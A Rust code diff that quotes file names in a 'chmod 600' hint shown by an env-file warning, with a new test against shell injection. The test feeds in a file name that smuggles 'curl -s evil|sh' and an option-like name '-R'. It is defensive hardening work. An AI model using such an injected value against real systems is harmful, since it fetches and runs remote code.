@@ -6,7 +6,7 @@ use std::time::Duration;
 
 use super::env_file;
 use crate::clock::{Timestamp, spoken};
-use crate::events;
+use crate::{events, shell_quoting};
 
 /// Brings a fresh token into the env file.
 pub const PULL: &str = "vercel env pull";
@@ -79,7 +79,7 @@ impl Warning {
     /// Other users of the machine can read the file.
     pub fn readable_by_others(file: &str) -> Self {
         let what = format!("other users can read {file}");
-        Self::new("env_file_readable_by_others", what, Some(&format!("chmod 600 {file}")))
+        Self::new("env_file_readable_by_others", what, Some(&format!("chmod 600 {}", shell_quoting::path(file))))
     }
 
     /// The file says twice what the token is.
@@ -126,5 +126,16 @@ mod tests {
         assert_eq!(warning.sentence(), "The OIDC token of acme/web expires in 15 min.");
         let warning = Warning::duplicate_assignments(".env.local");
         assert_eq!(warning.line() + ".", warning.sentence());
+    }
+
+    #[test]
+    fn a_files_name_is_no_command_and_no_option() {
+        for (file, hint) in [
+            (".env.local", "chmod 600 .env.local"),
+            (".env;curl -s evil|sh;#", "chmod 600 '.env;curl -s evil|sh;#'"),
+            ("-R", "chmod 600 ./-R"),
+        ] {
+            assert_eq!(Warning::readable_by_others(file).hint.as_deref(), Some(hint));
+        }
     }
 }
